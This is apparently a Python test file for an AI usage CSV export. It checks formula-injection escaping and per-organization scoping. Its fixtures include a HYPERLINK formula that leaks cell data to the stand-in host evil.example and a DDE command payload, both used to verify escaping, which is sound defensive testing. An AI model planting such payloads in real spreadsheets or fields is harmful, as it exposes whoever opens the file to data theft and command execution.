"""The AI usage export goes through the one CSV writer: what a client or a user typed (the
X-Request-ID header, a feedback comment) can never become a spreadsheet formula, and the rows
are streamed, read in a transaction of their own as the caller."""

import csv
import io

from tests.ai.support import message
from tests.conftest import assert_problem

REQUEST_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your grade")'
COMMENT = "+cmd|' /C calc'!A0"


async def test_request_ids_and_comments_are_escaped(client, make_school):
    school = await make_school()
    headers = {**school.headers["s"], "X-Request-ID": REQUEST_ID}
    called = await client.post("/ai/messages", json=message("hi [[tokens:5,1]]"), headers=headers)
    assert called.status_code == 200, called.text
    (row,) = (await client.get("/ai/usage", headers=school.headers["s"])).json()["items"]
    assert row["request_id"] == REQUEST_ID  # stored and shown in JSON as sent
    rated = await client.post(
        f"/ai/usage/{row['id']}/feedback", json={"rating": 1, "comment": COMMENT}, headers=school.headers["s"]
    )
    assert rated.status_code == 200, rated.text

    for who in ("s", "oa"):
        response = await client.get(
            "/ai/usage", params={"format": "csv", "organization_id": str(school.org_id)}, headers=school.headers[who]
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == 'attachment; filename="ai-usage.csv"'
        assert "content-length" not in response.headers  # streamed
        table = list(csv.reader(io.StringIO(response.text, newline="")))
        records = [dict(zip(table[0], values, strict=True)) for values in table[1:]]
        (record,) = [r for r in records if r["id"] == row["id"]]
        assert record["request_id"] == "'" + REQUEST_ID
        assert record["feedback_comment"] == "'" + COMMENT
        assert record["feedback_rating"] == "1"
        assert record["input_tokens"] == "5" and record["status"] == "succeeded"
        for values in table:
            assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in values), values


async def test_the_export_is_read_as_the_caller(client, make_school):
    school = await make_school()
    other = await make_school()
    await client.post("/ai/messages", json=message("mine [[tokens:5,1]]"), headers=school.headers["s"])
    response = await client.get(
        "/ai/usage", params={"format": "csv", "organization_id": str(school.org_id)}, headers=other.headers["oa"]
    )
    assert response.status_code == 200
    assert len(list(csv.reader(io.StringIO(response.text)))) == 1  # the header only
    assert_problem(await client.get("/ai/usage", params={"format": "csv"}), 401)
